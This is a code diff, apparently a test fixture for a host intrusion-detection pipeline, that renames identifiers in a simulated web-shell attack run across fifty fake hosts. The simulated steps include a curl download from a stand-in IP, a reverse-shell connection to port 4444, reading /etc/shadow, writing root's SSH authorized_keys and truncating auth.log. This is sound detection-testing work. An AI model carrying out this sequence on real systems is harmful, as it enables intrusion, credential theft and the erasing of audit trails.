@@ -3,9 +3,9 @@ import { createTestHost, credentialsOf, O, type TestHost, type TestProcess, test
 import { TOPIC } from '@ringfence/wire';
 
 const HOSTS = 50;
-/** on each host, at the same time: they have nothing to do with each other */
+/** Unrelated attacks on each host at the same time */
 const ATTACKS = 10;
-const NOBODY = { credentials: credentialsOf(65534) };
+const AS_NOBODY = { credentials: credentialsOf(65534) };
 
 interface Attack {
   readonly host: TestHost;
@@ -13,15 +13,21 @@ interface Attack {
   readonly number: number;
 }
 
-/** What the commands of a web shell do, one after the other. */
+/** The effects of a web shell's commands, in order */
 const STEPS: readonly ((attack: Attack) => void)[] = [
-  ({ host, shell }) => host.spawn(shell, '/usr/bin/id', ['id'], NOBODY),
+  ({ host, shell }) => host.spawn(shell, '/usr/bin/id', ['id'], AS_NOBODY),
   ({ host, shell, number }) => {
-    const curl = host.spawn(shell, '/usr/bin/curl', ['curl', '-o', `/tmp/x${number}`, 'http://203.0.113.9/x'], NOBODY);
+    const curl = host.spawn(
+      shell,
+      '/usr/bin/curl',
+      ['curl', '-o', `/tmp/x${number}`, 'http://203.0.113.9/x'],
+      AS_NOBODY,
+    );
     host.connect(curl, '203.0.113.9', 80);
     host.open(curl, `/tmp/x${number}`, O.WRONLY | O.CREAT);
   },
-  ({ host, shell, number }) => host.connect(host.spawn(shell, `/tmp/x${number}`, ['x'], NOBODY), '203.0.113.9', 4444),
+  ({ host, shell, number }) =>
+    host.connect(host.spawn(shell, `/tmp/x${number}`, ['x'], AS_NOBODY), '203.0.113.9', 4444),
   ({ host, shell }) => host.open(host.spawn(shell, '/usr/bin/cat', ['cat', '/etc/shadow']), '/etc/shadow'),
   ({ host, shell }) => host.open(host.spawn(shell, '/usr/bin/tee', ['tee']), '/root/.ssh/authorized_keys', O.WRONLY),
   ({ host, shell, number }) =>
@@ -29,32 +35,35 @@ const STEPS: readonly ((attack: Attack) => void)[] = [
   ({ host, shell }) => host.open(shell, '/var/log/auth.log', O.WRONLY | O.TRUNC),
 ];
 
-/** EventBatch records of many hosts that are all attacked at the same time: hundreds of incidents are open, and each grows with every step. */
-export function attacked(): Buffer[] {
+/**
+ * Returns EventBatch records of many hosts under attack at the same time: hundreds of incidents are open, and each
+ * grows with every step.
+ */
+export function recordAttacks(): Buffer[] {
   const hosts = Array.from({ length: HOSTS }, (_, n) =>
     createTestHost({ hostId: `00000000-0000-4000-8000-${String(n).padStart(12, '0')}` }),
   );
   const keys = new Map(hosts.map(({ hostId, key }) => [hostId, key.publicKey]));
   using enricher = createEnricherPipeline({ enrolment: { keyFor: (hostId) => keys.get(hostId) } });
   let offset = 0;
-  const enriched = (host: TestHost): Buffer[] =>
+  const enrich = (host: TestHost): Buffer[] =>
     enricher
       .handle(testRecords(host.hostId, [host.batch()], TOPIC.raw, offset++))
       .outputs.flatMap(({ topic, value }) => (topic === TOPIC.events && value !== null ? [Buffer.from(value)] : []));
-  const attacks = hosts.flatMap((host) => begin(host));
+  const attacks = hosts.flatMap((host) => beginAttacks(host));
   return STEPS.flatMap((step) => {
     for (const attack of attacks) step(attack);
     return hosts.flatMap((host) => {
       host.tick();
-      return enriched(host);
+      return enrich(host);
     });
   });
 }
 
-function begin(host: TestHost): Attack[] {
+function beginAttacks(host: TestHost): Attack[] {
   host.snapshot(host.init, '/usr/lib/systemd/systemd');
   return Array.from({ length: ATTACKS }, (_, number) => {
-    const server = host.spawn(host.init, '/usr/sbin/nginx', ['nginx'], NOBODY);
-    return { host, shell: host.spawn(server, '/bin/sh', ['sh', '-c', 'x'], NOBODY), number };
+    const server = host.spawn(host.init, '/usr/sbin/nginx', ['nginx'], AS_NOBODY);
+    return { host, shell: host.spawn(server, '/bin/sh', ['sh', '-c', 'x'], AS_NOBODY), number };
   });
 }
